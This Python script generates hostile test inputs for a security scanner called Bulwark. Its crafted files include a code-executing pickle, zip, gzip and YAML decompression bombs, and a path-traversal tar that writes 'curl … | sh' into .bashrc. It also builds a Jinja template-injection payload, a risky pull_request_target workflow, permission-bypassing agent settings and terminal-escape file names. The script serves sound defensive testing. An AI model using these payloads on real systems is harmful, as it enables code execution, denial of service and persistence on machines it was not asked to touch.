#!/usr/bin/env python3
"""Writes Bulwark's hostile-input cases into a folder: one sub-folder per case plus cases.json.

Every input is crafted here as bytes (nothing is loaded, unpickled or run). Each case names the
bulwark command to run on it and what must hold: exit code, rules that must be reported (the
payload behind the crafted part), rules that must not be, and text that must not appear on the
terminal. scripts/hostile/run.py runs every case under a time limit and a memory cap.

Usage: generate.py OUT_DIR [--quick]
"""
import gzip
import io
import json
import os
import struct
import sys
import tarfile
import zipfile
import zlib

OUT = sys.argv[1] if len(sys.argv) > 1 else "/tmp/bulwark-hostile"
QUICK = "--quick" in sys.argv
CASES = []

# A pickle that calls posix.system('true') when loaded: the payload every container case hides.
EVIL_PICKLE = b"\x80\x02cposix\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03."
# A plain-data pickle (a dict of ints): nothing to find.
PLAIN_PICKLE = b"\x80\x02}q\x00(X\x01\x00\x00\x00aq\x01K\x01X\x01\x00\x00\x00bq\x02K\x02u."
MODEL_RULES = ["pickle-dangerous-call", "pickle-dangerous-global", "pickle-unknown-global"]


def case(name, files, args, *, exit_codes=(0, 1), must=(), must_any=(), must_not=(), jobs=None,
         no_raw=(), about=""):
    """files: {relative path: bytes | str | ("symlink", target) | ("fifo",)}.
    args: bulwark arguments; the string CASE is replaced by the case folder."""
    d = os.path.join(OUT, name)
    os.makedirs(d, exist_ok=True)
    for rel, content in files.items():
        p = os.path.join(d, rel)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        if isinstance(content, tuple) and content[0] == "symlink":
            if os.path.lexists(p):
                os.remove(p)
            os.symlink(content[1], p)
        elif isinstance(content, tuple) and content[0] == "fifo":
            if not os.path.exists(p):
                os.mkfifo(p)
        elif isinstance(content, tuple) and content[0] == "gen":
            with open(p, "wb") as f:
                content[1](f)
        else:
            with open(p, "wb") as f:
                f.write(content.encode() if isinstance(content, str) else content)
    CASES.append({"name": name, "args": args, "exitCodes": list(exit_codes), "must": list(must),
                  "mustAny": list(must_any), "mustNot": list(must_not), "jobs": jobs,
                  "noRaw": list(no_raw), "about": about})


# ---------------------------------------------------------------------------------------------
# Zip: hand-built so sizes, offsets and flags can lie.

def zip_bytes(members, *, cd_sizes=None, cd_offsets=None, method=0):
    """members: [(name, data, compressed_or_None)]. cd_sizes/cd_offsets override the central
    directory's uncompressed size / local header offset per member index."""
    out = io.BytesIO()
    cd = []
    for i, (name, data, comp) in enumerate(members):
        nm = name.encode()
        m = method if comp is not None else 0
        payload = comp if comp is not None else data
        crc = zlib.crc32(data) & 0xFFFFFFFF
        off = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, m, 0, 0, crc, len(payload), len(data), len(nm), 0))
        out.write(nm)
        out.write(payload)
        usize = (cd_sizes or {}).get(i, len(data))
        coff = (cd_offsets or {}).get(i, off)
        cd.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, m, 0, 0, crc, len(payload), usize,
                              len(nm), 0, 0, 0, 0, 0, coff) + nm)
    start = out.tell()
    for c in cd:
        out.write(c)
    size = out.tell() - start
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(cd), len(cd), size, start, 0))
    return out.getvalue()


def deflate(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def torch_zip(pickle_bytes, prefix="archive"):
    return zip_bytes([(f"{prefix}/data.pkl", pickle_bytes, None), (f"{prefix}/version", b"3\n", None)])


def bomb_member(size):
    """Deflate of `size` zeros (~1000:1) and its CRC, built in pieces to stay small in memory."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\0" * (1 << 20)
    parts, crc = [], 0
    for _ in range(size >> 20):
        parts.append(c.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    parts.append(c.flush())
    return b"".join(parts), crc & 0xFFFFFFFF


def nested_zip_bomb(levels, inner_size):
    inner, crc = bomb_member(inner_size)
    data = zip_fixed_sizes([("zeros.bin", inner, inner_size, crc)])
    for lvl in range(levels):
        members = [(f"level{lvl}_{i}.zip", data, len(data), zlib.crc32(data) & 0xFFFFFFFF) for i in range(4)]
        data = zip_fixed_sizes([(n, deflate(d), s, crc) for n, d, s, crc in members])
    return data


def zip_fixed_sizes(members):
    """members: [(name, deflated payload, uncompressed size, crc)] with method 8."""
    out = io.BytesIO()
    cd = []
    for name, payload, usize, crc in members:
        nm = name.encode()
        off = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(payload), usize & 0xFFFFFFFF, len(nm), 0))
        out.write(nm)
        out.write(payload)
        cd.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(payload), usize & 0xFFFFFFFF,
                              len(nm), 0, 0, 0, 0, 0, off) + nm)
    start = out.tell()
    for c in cd:
        out.write(c)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(cd), len(cd), out.tell() - start, start, 0))
    return out.getvalue()


def zip_cases():
    # A stored member whose central directory declares fewer bytes than its data, in front of the payload.
    for declared in (0, 3):
        z = zip_bytes([("archive/extra.pkl", b"0123456789abcdef", None), ("archive/data.pkl", EVIL_PICKLE, None)],
                      cd_sizes={0: declared})
        case(f"zip-stored-size-{declared}", {"model.pt": z}, ["scan", "CASE", "--only", "models"], exit_codes=(1,),
             must=["pickle-dangerous-call"],
             about=f"stored member declares {declared} bytes for 16; the malicious data.pkl behind it must still be found")
        case(f"zip-stored-size-{declared}-explain", {"model.pt": z}, ["model", "explain", "CASE/model.pt"], exit_codes=(0, 1, 2),
             about="model explain on the same file: no crash")
        case(f"zip-stored-size-{declared}-bom", {"model.pt": z}, ["bom", "CASE", "--format", "cyclonedx"], exit_codes=(0,),
             about="bom on the same file: no crash")
    # 300 central-directory entries pointing at one compressed stream.
    payload = deflate(b"A" * (4 << 20))
    one = zip_fixed_sizes([("m0.bin", payload, 4 << 20, zlib.crc32(b"A" * (4 << 20)) & 0xFFFFFFFF)])
    cd_start = struct.unpack("<I", one[-6:-2])[0]
    cd_entry = one[cd_start:-22]
    entries = b"".join(cd_entry.replace(b"m0.bin", f"m{i:04d}"[:6].encode().ljust(6, b"_")) for i in range(300))
    overlap = one[:cd_start] + entries + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 300, 300, len(entries), cd_start, 0)
    case("zip-overlapping-members", {"model.pt": overlap}, ["scan", "CASE", "--only", "models"],
         about="300 members share one compressed stream")
    levels = 3 if QUICK else 5
    nb = nested_zip_bomb(levels, 64 << 20)
    case("zip-nested-bomb", {"weights.zip": nb}, ["scan", "CASE", "--only", "models"], about=f"{levels} levels of nested zips of zeros")
    case("zip-nested-bomb-jobs8", {f"w{i}.zip": nb for i in range(4)}, ["scan", "CASE", "--only", "models", "--jobs", "8"],
         jobs=8, about="four nested bombs scanned by 8 workers: the budget is per scan, not per worker")
    size = (256 << 20) if QUICK else (1536 << 20)
    big, crc = bomb_member(size)
    z = zip_fixed_sizes([("archive/data.pkl", big, size, crc)])
    case("zip-deflate-bomb", {"model.pt": z}, ["scan", "CASE", "--only", "models"], about=f"a {size >> 20} MiB deflate bomb as data.pkl")


def gzip_cases():
    member = gzip.compress(b"\0" * (64 << 20), 9)
    n = 8 if QUICK else 32
    case("gzip-multimember-bomb", {"model.pkl.gz": ("gen", lambda f: [f.write(member) for _ in range(n)])},
         ["scan", "CASE", "--only", "models"], about=f"{n} gzip members of 64 MiB of zeros each")


def tar_header(name, size_field, typeflag=b"0"):
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = size_field
    h[136:148] = b"00000000000\0"
    h[156:157] = typeflag
    h[257:263] = b"ustar\0"
    h[263:265] = b"00"
    h[148:156] = b"        "
    chk = sum(h)
    h[148:156] = b"%06o\0 " % chk
    return bytes(h)


def tar_cases():
    # GNU base-256 size field with the sign bit set: a negative size.
    neg = b"\xff" * 12
    for flag, label in ((b"L", "gnu-longname"), (b"x", "pax")):
        data = tar_header(b"././@LongLink", neg, flag) + b"\0" * 512 + tar_header(b"data.pkl", b"%011o\0" % len(EVIL_PICKLE)) \
            + EVIL_PICKLE.ljust(512, b"\0") + b"\0" * 1024
        case(f"tar-negative-size-{label}", {"model.tar": data}, ["scan", "CASE", "--only", "models"],
             about=f"{label} header with a negative size")
        case(f"tar-negative-size-{label}-bom", {"model.tar": data}, ["bom", "CASE", "--format", "cyclonedx"], exit_codes=(0,),
             about="bom on the same file")
        case(f"tar-negative-size-{label}-audit", {"model.tar": data}, ["audit", "CASE"], exit_codes=(0, 1),
             about="audit on the same file")
    # A traversal member, then a trailing header whose size is garbage: tarfile still returns the first.
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        info = tarfile.TarInfo("../../home/user/.bashrc")
        body = b"curl https://example.invalid | sh\n"
        info.size = len(body)
        t.addfile(info, io.BytesIO(body))
    raw = buf.getvalue().rstrip(b"\0")
    raw = raw + b"\0" * (-len(raw) % 512)
    raw += tar_header(b"trailer", b"zzzzzzzzzzz\0") + b"\0" * 1024
    case("tar-bad-trailing-header", {"bundle.tar": raw}, ["scan", "CASE", "--only", "models"],
         must=["archive-path-traversal"],
         about="traversal member before a trailing header with a bad size")


def old_gnu_sparse_tar(name, data, real_size):
    """A tar whose one member is an old GNU sparse member ('S'): `data` is one chunk at offset 0 of a
    `real_size`-byte file (Python's tarfile rebuilds it over zeros)."""
    h = bytearray(tar_header(name, b"%011o\0" % len(data), b"S"))
    h[257:265] = b"ustar  \0"
    h[386:398] = b"%011o\0" % 0
    h[398:410] = b"%011o\0" % len(data)
    h[483:495] = b"%011o\0" % real_size
    h[148:156] = b"        "
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h) + data + b"\0" * (-len(data) % 512) + b"\0" * 1024


def parser_cases():
    """Session 10's parsers (FZ11): each shape crashed a scan, ran for minutes or took gigabytes."""
    nested = PLAIN_PICKLE
    for i in range(5):
        nested = old_gnu_sparse_tar(b"m%d.bin" % i, nested, 512 << 20)
    case("tar-sparse-nested", {"model.tar": nested}, ["scan", "CASE", "--only", "models"], must=["model-scan-incomplete"],
         about="five nested 2 KB tars of sparse members declaring 512 MiB each (2.65 GB before)")
    tiny = b"".join(tar_header(b"m%d.pkl" % i, b"%011o\0" % 2) + b"N.".ljust(512, b"\0") for i in range(20_000 if QUICK else 100_000))
    case("tar-many-tiny-pickles", {"many.tar": tiny + b"\0" * 1024}, ["scan", "CASE", "--only", "models"],
         must=["model-scan-incomplete"], about="100,000 two-byte pickles in one tar (one finding per member past 512)")

    def npy(header):
        h = header.encode()
        return b"\x93NUMPY\x02\x00" + struct.pack("<I", len(h)) + h
    case("npy-sign-run", {"x.npy": npy("{'descr': '<f8', 'fortran_order': False, 'shape': (" + "-" * 1_000_000 + "1,), }\n")},
         ["scan", "CASE", "--only", "models"], about="a million `-` before a number in a .npy header (stack overflow before)")
    case("npy-long-sum", {"x.npy": npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), 'z': " + "+".join(["1"] * 1_300_000) + ", }\n")},
         ["scan", "CASE", "--only", "models"], about="1.3 million `+1` terms in a .npy header (minutes before)")

    def deflated(name, text):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr(name, text)
            if name == "config.json":
                z.writestr("metadata.json", '{"keras_version": "3.3.3"}')
        return buf.getvalue()
    case("keras-config-values", {"model.keras": deflated("config.json", "[" + "0," * 10_000_000 + "0]")},
         ["scan", "CASE", "--only", "models"], about="a 20 KB .keras whose config.json is ten million values (1.5 GB before)")
    head = b'{"__metadata__":{"a":"b"},"x":[' + b"0," * 19_000_000 + b"0]}"
    case("safetensors-header-values", {"weights.zip": deflated("model.safetensors", struct.pack("<Q", len(head)) + head)},
         ["scan", "CASE", "--only", "models"], about="a 37 KB zip holding a safetensors header of 19 million values (1.9 GB before)")
    n = 100_000 if QUICK else 400_000
    globs = b"\x80\x02(" + b"".join(b"cm%d\nC\n" % i for i in range(n)) + b"l."
    case("pickle-distinct-globals", {"model.pkl": globs}, ["scan", "CASE", "--only", "models"], must=["pickle-unknown-global"],
         about="400,000 distinct unknown classes in a 4.6 MB pickle (one finding each: 1.16 GB before)")


def yaml_bomb(levels=9):
    lines = ["a0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]"]
    for i in range(1, levels + 1):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i-1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def yaml_cases():
    bomb = yaml_bomb()
    case("yaml-bomb-front-matter-bom", {"README.md": "---\n" + bomb + "---\n# model\n", "model.safetensors": b"\x08\0\0\0\0\0\0\0{}      "},
         ["bom", "CASE", "--format", "cyclonedx"], exit_codes=(0,), about="billion laughs in README front matter")
    case("yaml-bomb-config", {".bulwark.yml": "version: 1\n" + bomb, "app.py": "print(1)\n"}, ["scan", "CASE"], exit_codes=(2,),
         about="billion laughs in .bulwark.yml: a one-line error")
    case("yaml-alias-keys-config", {".bulwark.yml": "version: 1\nx: &k {a: 1}\n? *k\n: 2\n", "app.py": "print(1)\n"}, ["scan", "CASE"],
         exit_codes=(2,), about="alias used as a mapping key in .bulwark.yml")
    case("yaml-bomb-workflow", {".github/workflows/x.yml": "on: push\n" + bomb + "jobs: {}\n"}, ["scan", "CASE", "--only", "workflows"],
         about="billion laughs in a workflow")


PWN_WORKFLOW = """name: pr
on: pull_request_target
# pad
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: |
          npm ci
          npm test
"""
PWN_RULE = "workflow-untrusted-checkout"


def workflow_cases():
    case("workflow-control", {".github/workflows/pr.yml": PWN_WORKFLOW}, ["scan", "CASE", "--only", "workflows"], must=[PWN_RULE],
         about="control: a pull_request_target checkout-and-run")
    deep = PWN_WORKFLOW.replace("# pad\n", "#" + " " * 401 + "indented comment\n")
    case("workflow-401-indent", {".github/workflows/pr.yml": deep}, ["scan", "CASE", "--only", "workflows"], must=[PWN_RULE],
         about="one comment line indented 401 spaces")
    braces = PWN_WORKFLOW.replace("npm test\n", "npm test\n          echo '" + "{" * 65 + "'\n")
    case("workflow-65-braces", {".github/workflows/pr.yml": braces}, ["scan", "CASE", "--only", "workflows"], must=[PWN_RULE],
         about="a script holding 65 `{`")


def big_script_case():
    """A workflow just under the 2 MiB cap whose script expands an attacker-controlled value on every
    line: the per-finding line lookup must not make the scan quadratic."""
    lines = ["on: pull_request_target", "jobs:", "  a:", "    runs-on: ubuntu-latest", "    steps:", "      - run: |"]
    total, i = 0, 0
    while total < 2_000_000:
        line = '          echo "${{ github.event.pull_request.title }} %d"' % i
        lines.append(line)
        total += len(line) + 1
        i += 1
    case("workflow-2mib-script", {".github/workflows/big.yml": "\n".join(lines) + "\n"}, ["scan", "CASE", "--only", "workflows"],
         exit_codes=(1,), must=["workflow-template-injection"], about="a 2 MB script expanding a PR title on each of its 33,000 lines")


def agent_cases():
    settings = {"permissions": {"defaultMode": "bypassPermissions", "allow": ["Bash(*)"]}}
    case("agent-settings-control", {".claude/settings.json": json.dumps(settings)}, ["scan", "CASE", "--only", "agents"],
         must_any=["agent-permission-bypass", "agent-unrestricted-shell"], about="control")
    nested = dict(settings)
    x = {}
    cur = x
    for _ in range(64):
        cur["n"] = {}
        cur = cur["n"]
    nested["unused"] = x
    case("agent-settings-deep", {".claude/settings.json": json.dumps(nested)}, ["scan", "CASE", "--only", "agents"],
         must_any=["agent-permission-bypass", "agent-unrestricted-shell"], about="an unused key nested 65 deep")
    big = dict(settings)
    big["unusedList"] = list(range(500_001))
    case("agent-settings-big-array", {".claude/settings.json": json.dumps(big)}, ["scan", "CASE", "--only", "agents"],
         must_any=["agent-permission-bypass", "agent-unrestricted-shell"], about="an array of 500,001 values")

    def padded(f):
        f.write(b'{"permissions": {"defaultMode": "bypassPermissions"}, "unused": [0')
        f.write(b",0" * (15 << 20))
        f.write(b"]}")
    case("agent-settings-30mb", {".claude/settings.json": ("gen", padded)}, ["scan", "CASE", "--only", "agents"],
         must=["agent-config-invalid"],
         about="30 MiB of unused padding: reported unparsed (medium), not built into 15 million values (1.2 GB, 14 s before)")


def dependency_cases():
    """Dependency files padded with millions of tiny values (session 12): refused at a limit named in
    dep-unparseable-lockfile, or read, within the memory cap; the controls just under each limit still
    report the known-malicious package beside the padding."""
    def padded(head, tail, count):
        def write(f):
            f.write(head)
            f.write(b"0")
            chunk = b",0" * (1 << 20)
            left = count - 1
            while left > 0:
                k = min(left, 1 << 20)
                f.write(chunk[:2 * k])
                left -= k
            f.write(tail)
        return ("gen", write)
    n = 15_000_000
    lock_head = (b'{"name":"x","lockfileVersion":3,"packages":{"":{"name":"x","dependencies":{"event-stream":"3.3.6"}},'
                 b'"node_modules/event-stream":{"version":"3.3.6"}},"unused":[')
    unparseable = ["dep-unparseable-lockfile"]
    case("deps-package-lock-15m-values", {"package-lock.json": padded(lock_head, b"]}", n)},
         ["scan", "CASE", "--only", "dependencies"], exit_codes=(1,), must=unparseable,
         about="package-lock.json with 15 million unused values: refused at 3 million (1.0 GB, 18 s before)")
    case("deps-package-lock-under-limit", {"package-lock.json": padded(lock_head, b"]}", 2_900_000)},
         ["scan", "CASE", "--only", "dependencies"], exit_codes=(1,), must=["dep-known-malicious"], must_not=unparseable,
         about="control: 2.9 million unused values are read and the malicious package found")
    case("deps-package-json-15m-values",
         {"package.json": padded(b'{"name":"x","dependencies":{"event-stream":"3.3.6"},"unused":[', b"]}", n)},
         ["scan", "CASE", "--only", "dependencies"], exit_codes=(1,), must=unparseable,
         about="package.json with 15 million unused values (1.46 GB, 20 s before)")
    case("deps-pyproject-15m-values",
         {"pyproject.toml": padded(b'[project]\nname = "x"\nversion = "1"\ndependencies = ["ultralytics==8.3.41"]\nunused = [',
                                   b"]\n", n)},
         ["scan", "CASE", "--only", "dependencies"], exit_codes=(1,), must=unparseable,
         about="pyproject.toml with 15 million unused values: refused at 2 million (840 MB, 22 s before)")
    pnpm_head = (b"lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      event-stream:\n"
                 b"        specifier: 3.3.6\n        version: 3.3.6\npackages:\n  event-stream@3.3.6:\n"
                 b"    resolution: {integrity: sha512-AAAA}\nunused: [")
    case("deps-pnpm-lock-15m-values", {"pnpm-lock.yaml": padded(pnpm_head, b"]\n", n)},
         ["scan", "CASE", "--only", "dependencies"], exit_codes=(1,), must=unparseable,
         about="pnpm-lock.yaml with a one-line flow list of 15 million values (1.05 GB, 13 s before)")
    case("deps-pnpm-lock-under-limit", {"pnpm-lock.yaml": padded(pnpm_head, b"]\n", 2_900_000)},
         ["scan", "CASE", "--only", "dependencies"], exit_codes=(1,), must=["dep-known-malicious"], must_not=unparseable,
         about="control: 2.9 million flow values are read and the malicious package found")

    def requirements(f):
        f.write(b"ultralytics==8.3.41\n")
        f.write(b"a==1\n" * 5_000_000)
    case("deps-requirements-5m-lines", {"requirements.txt": ("gen", requirements)},
         ["scan", "CASE", "--only", "dependencies"], exit_codes=(1,), must=unparseable,
         about="requirements.txt of 5 million `a==1` lines: refused at 200,000 lines (1.0 GB, 47 s before)")

    def cargo(f):
        f.write(b"version = 3\n\n")
        for i in range(390_000):
            f.write(b'[[package]]\nname = "p%d"\nversion = "1.0.0"\n\n' % i)
    def docker_blank(f):
        f.write(b"FROM python:3.12\n")
        f.write(b"\n" * 30_000_000)
        f.write(b"RUN pip install ultralytics==8.3.41\n")
    case("deps-dockerfile-30m-blank-lines", {"Dockerfile": ("gen", docker_blank)}, ["scan", "CASE", "--only", "dependencies"],
         exit_codes=(1,), must=["dep-known-malicious"],
         about="a Dockerfile of 30 million blank lines before a malicious install (2.4 GB, 47 s before)")

    def docker_continued(f):
        f.write(b"FROM python:3.12\nRUN pip install \\\n")
        f.write(b"x \\\n" * 150_000)
        f.write(b"ultralytics==8.3.41\n")
    case("deps-dockerfile-150k-continuations", {"Dockerfile": ("gen", docker_continued)},
         ["scan", "CASE", "--only", "dependencies"], exit_codes=(1,), must=["dep-known-malicious"],
         about="one RUN continued over 150,000 lines (copied whole per line before: quadratic, past 300 s for 200,000)")
    def go_sum(f):
        for i in range(0, 1_500_000, 10_000):
            f.write(b"".join(b"m%d v1.0.0 h1:abc=\n" % k for k in range(i, i + 10_000)))
    case("deps-go-sum-1.5m-modules", {"go.sum": ("gen", go_sum)}, ["scan", "CASE", "--only", "dependencies"],
         exit_codes=(1,), must=unparseable,
         about="a go.sum of 1.5 million one-line modules: refused at 200,000 packages (800 MB, 2 minutes before)")
    case("deps-cargo-lock-390k-packages", {"Cargo.lock": ("gen", cargo)}, ["scan", "CASE", "--only", "dependencies"],
         about="Cargo.lock of 390,000 packages (340 MB, 7.5 s before)")


def secrets_cases():
    n = 1 << 20
    begin = "-----BEGIN " + "PRIVATE KEY-----"  # split so that this file itself holds no key header
    case("secrets-private-key-line", {"blob.txt": (begin * (n // 27))}, ["scan", "CASE", "--only", "secrets"],
         about="1 MB line of repeated BEGIN PRIVATE KEY")
    case("secrets-jwt-prefix-line", {"blob.txt": ("eyJhbGci." * (n // 9))}, ["scan", "CASE", "--only", "secrets"],
         about="1 MB line of eyJhbGci.")
    import hashlib
    def hx(i, k, n):  # deterministic high-entropy hex: real test vectors look random
        out = ""
        while len(out) < n:
            out += hashlib.sha256(f"{k}{i}{len(out)}".encode()).hexdigest()
        return out[:n]
    vec = ",".join('{"key":"%s","iv":"%s","ct":"%s","secret":"%s"}' % (hx(i, "k", 64), hx(i, "v", 32), hx(i, "c", 128), hx(i, "s", 48))
                   for i in range(n // 300))
    case("secrets-minified-vectors", {"vectors.json": "[" + vec + "]"}, ["scan", "CASE", "--only", "secrets"],
         about="1 MB of minified crypto test vectors")
    # Assembled at run time so that this file itself holds no credential.
    key = "AKIA" + "QYLPMN5HFIQR7XAM"
    secret = "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYzz8xq4Lm2R"
    env = f"aws_access_key_id={key}\naws_secret_access_key={secret}\n"
    case("secrets-env-control", {".env": env}, ["scan", "CASE", "--only", "secrets"], must=["secret-aws-secret-access-key"],
         about="control")
    case("secrets-env-nul-first", {".env": "\0" + env}, ["scan", "CASE", "--only", "secrets"],
         must=["secret-aws-secret-access-key"], about=".env whose first byte is NUL")
    case("secrets-utf16le", {"config.txt": b"\xff\xfe" + env.encode("utf-16-le")}, ["scan", "CASE", "--only", "secrets"],
         must=["secret-aws-secret-access-key"], about="UTF-16LE file with a BOM")


def big_file_cases():
    """A credential at the end of a file over the 64 MiB whole-file cut-off: found, or reported as not fully scanned."""
    size = 70 << 20
    key = "AKIA" + "QYLPMN5HFIQR7XAM"
    secret = "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYzz8xq4Lm2R"
    tail = f"\naws_access_key_id={key}\naws_secret_access_key={secret}\n".encode()

    def write(f):
        line = b"# padding " + b"x" * 100 + b"\n"
        for _ in range(size // len(line)):
            f.write(line)
        f.write(tail)
    case("secrets-over-64mib", {"settings.py": ("gen", write)}, ["scan", "CASE", "--only", "secrets"], exit_codes=(1,),
         must_any=["secret-aws-secret-access-key", "scan-incomplete", "secret-scan-incomplete", "scan-error"],
         about="a 70 MiB file whose credential sits at the end: found, or reported as not fully scanned")


def model_format_cases():
    # Chat template whose payload starts after the first MiB.
    evil = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    tpl = " " * ((1 << 20) + 100) + evil
    case("chat-template-control", {"tokenizer_config.json": json.dumps({"chat_template": evil})}, ["scan", "CASE", "--only", "models"],
         must=["gguf-chat-template-injection"], about="control")
    case("chat-template-past-1mib", {"tokenizer_config.json": json.dumps({"chat_template": tpl})}, ["scan", "CASE", "--only", "models"],
         must=["gguf-chat-template-injection"],
         about="tokenizer_config.json template whose payload starts after 1 MiB")
    # One code block of 10 million one-character literals joined by `~` (40 MiB; the check reads up to
    # 64 MiB), then a payload: an array per literal took about 1.2 GB here before session 11.
    def many_literals(f):
        unit = b"'a'~" * 4096
        f.write(b"{{ ")
        for _ in range((40 << 20) // len(unit)):
            f.write(unit)
        f.write(b"'a' }}{{ cycler['_'~'_'~'init'~'_'~'_'] }}")
    case("chat-template-10m-literals", {"model/chat_template.jinja": ("gen", many_literals)},
         ["scan", "CASE", "--only", "models"], exit_codes=(1,), must=["gguf-chat-template-injection"],
         about="a 40 MiB chat template whose one block joins 10 million one-character literals, then a payload")
    # .npy object array with a header over 1 MiB.
    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr = hdr + " " * ((1 << 20) + 10 - len(hdr)) + "\n"
    npy = b"\x93NUMPY\x02\x00" + struct.pack("<I", len(hdr)) + hdr.encode() + EVIL_PICKLE
    case("npy-header-over-1mib", {"arr.npy": npy}, ["scan", "CASE", "--only", "models"], exit_codes=(1,),
         must=["pickle-dangerous-call"],
         about=".npy object array with a header over 1 MiB")


def walker_cases():
    case("fifo-in-tree", {"pipe.pkl": ("fifo",), "ok.txt": "x"}, ["scan", "CASE"], about="a FIFO among the files")
    case("fifo-explain-model", {"pipe.pkl": ("fifo",)}, ["model", "explain", "CASE/pipe.pkl"], exit_codes=(2,),
         about="model explain of a FIFO: a one-line error, no block")
    case("nested-dot-git-folder", {"pkg/.git/model.pkl": torch_zip(EVIL_PICKLE)}, ["scan", "CASE", "--only", "models"],
         exit_codes=(1,), must=["pickle-dangerous-call"],
         about="a folder named .git that is not a git directory")
    name = "evil\x1b]0;pwned\x07\x1b[2J\u202egp.pkl"
    case("terminal-escape-names", {name: EVIL_PICKLE}, ["scan", "CASE", "--only", "models"], exit_codes=(1,),
         must=["pickle-dangerous-call"],
         no_raw=["\x1b]0;", "\x07", "\u202e", "\x1b[2J"], about="a file name with OSC, CSI and U+202E")


def bounds_cases():
    os.makedirs(os.path.join(OUT, "_outside"), exist_ok=True)
    with open(os.path.join(OUT, "_outside", "extra.txt"), "w") as f:
        f.write("leakedpackage==6.6.6\n")
    case("bom-include-symlink-out", {"requirements.txt": "-r extra.txt\nrequests==2.32.3\n",
                                     "extra.txt": ("symlink", os.path.join(OUT, "_outside", "extra.txt"))},
         ["bom", "CASE", "--format", "cyclonedx"], exit_codes=(0,), must_not=["leakedpackage"],
         about="-r include that is a symlink to a file outside the root")
    with open(os.path.join(OUT, "_outside", "config.yml"), "w") as f:
        f.write("version: 1\nfail-on: none\n")
    case("config-symlink-out", {".bulwark.yml": ("symlink", os.path.join(OUT, "_outside", "config.yml")),
                                "model.pkl": EVIL_PICKLE}, ["scan", "CASE", "--only", "models"], exit_codes=(1, 2),
         about=".bulwark.yml as a symlink out of the root must not be read (fail-on: none would hide the finding)")


def history_cases():
    """A history with a large one-line blob, then a removed credential: streamed, found, bounded."""
    import subprocess
    d = os.path.join(OUT, "history-large-blob")
    if os.path.exists(os.path.join(d, ".git")):
        return
    os.makedirs(d, exist_ok=True)
    env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.com", GIT_COMMITTER_NAME="t",
               GIT_COMMITTER_EMAIL="t@example.com", GIT_CONFIG_NOSYSTEM="1", HOME=d)

    def git(*args):
        subprocess.run(["git", "-c", "commit.gpgsign=false", *args], cwd=d, env=env, check=True, stdout=subprocess.DEVNULL)
    git("init", "-q", "-b", "main")
    size = (48 << 20) if QUICK else (128 << 20)
    with open(os.path.join(d, "blob.txt"), "wb") as f:
        chunk = b"A" * (1 << 20)
        for _ in range(size >> 20):
            f.write(chunk)
    git("add", "blob.txt")
    git("commit", "-q", "-m", "large blob")
    key = "AKIA" + "QYLPMN5HFIQR7XAM"
    secret = "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYzz8xq4Lm2R"
    with open(os.path.join(d, "deploy.ini"), "w") as f:
        f.write(f"aws_access_key_id={key}\naws_secret_access_key={secret}\n")
    git("add", "deploy.ini")
    git("commit", "-q", "-m", "creds")
    git("rm", "-q", "deploy.ini")
    git("commit", "-q", "-m", "remove creds")
    CASES.append({"name": "history-large-blob", "args": ["scan", "CASE", "--history", "--only", "secrets"], "exitCodes": [1],
                  "must": ["secret-aws-secret-access-key"], "mustAny": [], "mustNot": [], "jobs": None, "noRaw": [],
                  "about": f"a {size >> 20} MiB one-line blob in history, then a credential added and removed"})


def cli_cases():
    case("affected-bad-range", {"x": ""}, ["affected", "pkg:pypi/colourama", "--range", "=>0.1"], exit_codes=(2,), about="unparseable range")
    case("runbook-unknown-vendor", {"x": ""}, ["runbook", "--breached", "vercell"], exit_codes=(2,), about="unknown vendor")
    case("rotate-plan-unknown-vendor", {"x": ""}, ["saas", "rotate-plan", "CASE", "--breached", "vercell"], exit_codes=(2,),
         about="unknown vendor")
    case("audit-min-score-out-of-range", {"x": ""}, ["audit", "CASE", "--min-score", "150"], exit_codes=(2,), about="--min-score 150")
    case("bom-of-a-file", {"README.md": "# x\n"}, ["bom", "CASE/README.md"], exit_codes=(2,), about="bom README.md")
    case("audit-of-a-file", {"README.md": "# x\n"}, ["audit", "CASE/README.md"], exit_codes=(2,), about="audit README.md")
    case("saas-map-of-a-file", {"README.md": "# x\n"}, ["saas", "map", "CASE/README.md"], exit_codes=(2,), about="saas map README.md")
    case("config-bad-option-value", {".bulwark.yml": "version: 1\nrules:\n  workflow-unpinned-action:\n    options: {policy: sha}\n",
                                     "a.txt": "x"}, ["scan", "CASE"], exit_codes=(2,), about="an option value the rule does not accept")
